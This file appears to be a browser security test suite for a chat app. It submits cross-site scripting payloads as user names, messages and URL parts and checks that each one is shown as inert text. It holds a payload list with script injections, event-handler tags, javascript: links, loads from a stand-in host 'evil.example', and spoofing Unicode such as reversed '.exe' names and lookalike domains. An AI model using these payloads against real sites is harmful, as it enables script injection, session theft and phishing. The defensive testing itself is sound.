// Text that means harm, as names and as messages, in a real browser: it is shown, and that is all that happens (rule S24).
import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { callApi } from '#rufer/tests/helpers/api.ts'
import { openPage, say, shows } from '#rufer/tests/helpers/chat-page.ts'
import { connect } from '#rufer/tests/helpers/client.ts'
import { findLost } from '#rufer/tests/helpers/lost-content.ts'
import { UNHURRIED } from '#rufer/tests/helpers/people.ts'
import { openSite, startDemo } from '#rufer/tests/helpers/site.ts'

/** Each would call this, if it could. */
const CALL = 'alert(document.domain)'
const MARKUP = [
  `<script>${CALL}</script>`,
  `"><script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg/onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `</title><script>${CALL}</script>`,
  `</textarea><img src=x onerror=${CALL}>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<form action=https://evil.example><input autofocus onfocus=${CALL}>`,
  `' onmouseover='${CALL}' x='`,
  `{{ constructor.constructor('${CALL}')() }}`,
  '${' + CALL + '}',
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
]
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  ` javascript:${CALL}//http://evil.example`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:msgbox(1)`,
  `https://evil.example/"onmouseover="${CALL}`,
  `http://evil.example/<script>${CALL}</script>`,
  `[click](javascript:${CALL})`,
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'view-source:https://evil.example',
  'https://user:password@evil.example/',
]
const LETTERS = [
  // turned around
  '\u202Egnp.exe',
  '\u2067left\u2069 \u202Dright',
  '\u202A\u202B\u202D\u202E\u2066\u2067\u2068 never closed',
  'https://evil.example/\u202Egpj.exe',
  // that look like others, or like nothing
  'аliсе Ѕmіth',
  'https://аррӏе.com/',
  'Bob\u200BJohnson\u2060\uFEFF',
  '\u3164\u115F\u1160',
  '\u00AD'.repeat(40),
  // that stand where they should not
  `Z${'\u0301\u0332\u0489'.repeat(30)}algo`,
  '\u{1F469}\u200D'.repeat(20),
  'W'.repeat(100),
  '﷽'.repeat(20),
  'line\nafter\r\nline\u2028after\u2029line\v\f\u0085end',
  '\u{E0001}\u{E0041}\uFFFE\u{10FFFF}\u0007\u001B[31m',
]
const PAYLOADS = [...MARKUP, ...ADDRESSES, ...LETTERS]

const { browser, server } = await openSite(() => startDemo(UNHURRIED))

describe('S24 text that means harm', () => {
  test('as names: each is shown as it is, and nothing else happens', async () => {
    const names = PAYLOADS.map((payload) => Array.from(payload).slice(0, 100).join(''))
    const chats = await Promise.all(names.map((name, index) => writeAs({ userId: `name-${index}`, name })))
    const { page, deeds } = await open('/chat?userId=alice')
    await page.setViewportSize({ width: 1280, height: 6_000 })
    const listed = async () => new Set(await page.locator('nav li .name bdi').allTextContents())
    await expect.poll(listed).toEqual(new Set([...names, 'Bob Johnson']))
    await expect.poll(() => page.locator('nav li').getByText(', online').count()).toBe(names.length)
    expect(await findLost(page)).toEqual([])
    await page.setViewportSize({ width: 1280, height: 800 })
    // all of them are in the list; these are opened, too
    for (const [index, name] of [...names.entries()].filter(
      ([at]) => at < 3 || at >= PAYLOADS.length - LETTERS.length,
    )) {
      await page.goto(`${server.url}/chat?userId=alice&chatId=${chats[index]}`)
      const heading = page.locator('main header h2 bdi')
      await heading.waitFor({ state: 'attached' })
      expect(await heading.evaluate((element) => element.textContent)).toBe(name)
      // the title follows what is shown, and is not there with it
      await expect.poll(() => page.title()).toMatch(/^\([0-9]+\) [^]+ · Rufer$/)
      expect({ name, lost: await findLost(page) }).toEqual({ name, lost: [] })
    }
    expect(await harmDone(page, deeds)).toEqual([])
  })

  test('as messages of others and of one’s own: each is shown as it is, and nothing else happens', async () => {
    const chatId = await writeAs({ userId: 'mallory', name: 'Mallory', texts: PAYLOADS })
    const { page, deeds } = await open(`/chat?userId=alice&chatId=${chatId}`)
    await shows(page, PAYLOADS)
    const own = MARKUP.join(' ')
    await say(page, own)
    await shows(page, [...PAYLOADS, own])
    // What finds them is fetched first, and then finds all at once.
    await page.locator('article a').first().waitFor()
    expect(await findLost(page)).toEqual([])

    const links = await page.locator('article a').all()
    for (const link of links) {
      expect(await link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)[^"<>\s]+$/)
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
    expect(await harmDone(page, deeds)).toEqual([])
  })

  test('in the address, as user, as conversation and as path', async () => {
    // a page that does not exist says so in the console, too
    const page = await browser.newPage()
    const deeds = watch(page)
    for (const payload of MARKUP.slice(0, 6)) {
      const encoded = encodeURIComponent(payload)
      for (const path of [`/chat?userId=${encoded}`, `/chat?userId=alice&chatId=${encoded}`, `/${encoded}`]) {
        await page.goto(`${server.url}${path}`)
        await page.getByRole('heading').first().waitFor({ state: 'attached' })
      }
    }
    expect(await harmDone(page, deeds)).toEqual([])
    await page.close()
  })
})

// --- Internal helpers ---

/** Somebody of that name writes to alice, and stays; gives the conversation. */
async function writeAs({
  userId,
  name,
  texts = ['hello'],
}: {
  userId: string
  name: string
  texts?: string[]
}) {
  const { status } = await callApi(server, 'POST /api/users/register', {
    body: { userId, displayName: name },
  })
  expect(status).toBe(201)
  const client = await connect(server, userId)
  for (const text of texts) await client.say({ userId: 'alice' }, text)
  const { conversations } = await client.request('conversation.list')
  return conversations[0]?.id
}

/** Opens a page, and watches it. */
async function open(path: string): Promise<{ page: Page; deeds: string[] }> {
  let deeds: string[] = []
  const page = await openPage(browser, `${server.url}${path}`, {
    prepare: (made) => void (deeds = watch(made)),
  })
  return { page, deeds }
}

/** Notes what no text may bring about: dialogs, other windows, and requests to anywhere else. */
function watch(page: Page): string[] {
  const deeds: string[] = []
  page.on('dialog', (dialog) => {
    deeds.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => deeds.push(`window: ${popup.url()}`))
  page.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(`${server.url}/`) && !url.startsWith('data:')) deeds.push(`request: ${url}`)
  })
  return deeds
}

/** What was done, and what elements there are that are not of the page's own making. */
async function harmDone(page: Page, deeds: string[]): Promise<string[]> {
  const strange =
    'iframe, object, embed, base, form[action], img, math, animate, [onload], [onerror], [onclick]'
  const elements = await page.locator(strange).evaluateAll((all) => all.map(({ outerHTML }) => outerHTML))
  return [...deeds, ...elements]
}
